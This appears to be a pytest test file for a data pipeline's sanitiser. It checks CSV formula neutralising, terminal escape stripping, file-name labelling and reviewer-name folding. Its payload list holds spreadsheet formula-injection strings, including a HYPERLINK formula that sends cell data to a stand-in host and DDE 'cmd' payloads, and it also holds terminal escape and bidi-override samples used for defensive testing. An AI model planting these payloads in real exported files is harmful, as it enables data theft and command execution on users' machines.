"""Formula injection, terminal escapes, file names, row lists, reviewer identity (issue 11)."""

from __future__ import annotations

import csv
import io
import os
from pathlib import Path

import pytest

from pipeline import sanitize

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",  # full-width equals sign
    "﹢cmd|' /C calc'!A0",  # small plus sign
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_payloads_are_written_as_quoted_text(payload: str) -> None:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow(sanitize.csv_row(["kokki", payload, 3.5]))
    [row] = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert row == ["kokki", "'" + payload.replace("\r", "\n"), "3.5"]


def test_a_carriage_return_cannot_start_a_new_row() -> None:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow(sanitize.csv_row(["a\r=HYPERLINK(1)", 1]))
    assert out.getvalue() == '"a\n=HYPERLINK(1)",1\n'


def test_ordinary_text_and_numbers_are_unchanged() -> None:
    assert sanitize.csv_row(["Asiakaspalvelu", "3–5 vuotta", "", None, -0.3, 4, "'=x"]) == [
        "Asiakaspalvelu",
        "3–5 vuotta",
        "",
        None,
        -0.3,
        4,
        "'=x",
    ]
    assert sanitize.csv_cell("-0.3") == "'-0.3"  # text, so neutralised like any other


def test_terminal_text_removes_escapes_and_controls() -> None:
    comment = "ok\x1b[2J\x1b[31mred\x1b[0m \x1b]0;title\x07\x1b]8;;http://x\x1b\\link\x9b1m\u202eevil\r\nnext"
    assert sanitize.terminal_text(comment) == "okred linkevil next"
    assert sanitize.terminal_text("a\nb\tc", keep_newlines=True) == "a\nb c"
    assert sanitize.terminal_text("bell\x07 nul\x00 del\x7f") == "bell nul del"


def test_path_label_never_fails_on_non_utf8_names(tmp_path: Path) -> None:
    raw = os.fsencode(tmp_path) + b"/2022_k\xe4rki\n.xlsx"
    with open(raw, "wb"):
        pass
    [found] = list(tmp_path.iterdir())
    label = sanitize.path_label(found)
    assert label.endswith("/2022_k\\xe4rki\\n.xlsx")
    label.encode("utf-8")  # printable without errors
    assert sanitize.terminal_text(str(found)).endswith("2022_k\\xe4rki .xlsx")


def test_summarise_rows() -> None:
    assert sanitize.summarise_rows([12]) == "row 12"
    assert sanitize.summarise_rows([12, 15]) == "rows 12 and 15"
    assert sanitize.summarise_rows([12, 15, 18]) == "rows 12, 15 and 18"
    rows = [12, 15, 18, 21, 30, *range(100, 3582)]
    assert sanitize.summarise_rows(rows) == "rows 12, 15, 18, 21, 30 and 3,482 more"


def test_reviewer_key_folds_look_alikes_but_keeps_real_differences() -> None:
    key = sanitize.reviewer_key
    assert key("Aino Mäkelä") == key("AINO  MÄKELÄ") == "aino mäkelä"
    assert key("Aino Mäkelä") == key("Aino M\u0430\u0308kel\u0430\u0308")  # decomposed ä
    assert key("Pekka Opettaja") == key("Pekka Оpettaja")  # Cyrillic О
    assert key("Pekka Opettaja") == key("Pekka Οpettaja")  # Greek Ο
    assert key("Sari Kettunen") == key("Sari\u200b Kettunen\u00ad")  # zero-width space, soft hyphen
    assert key("Sari Kettunen") == key("Ｓａｒｉ Ｋｅｔｔｕｎｅｎ")  # full-width
    assert key("Aino Mäkelä") != key("Aino Makela")
    assert sanitize.same_reviewer("Anna-Liisa", "Anna‐Liisa")  # hyphen U+2010
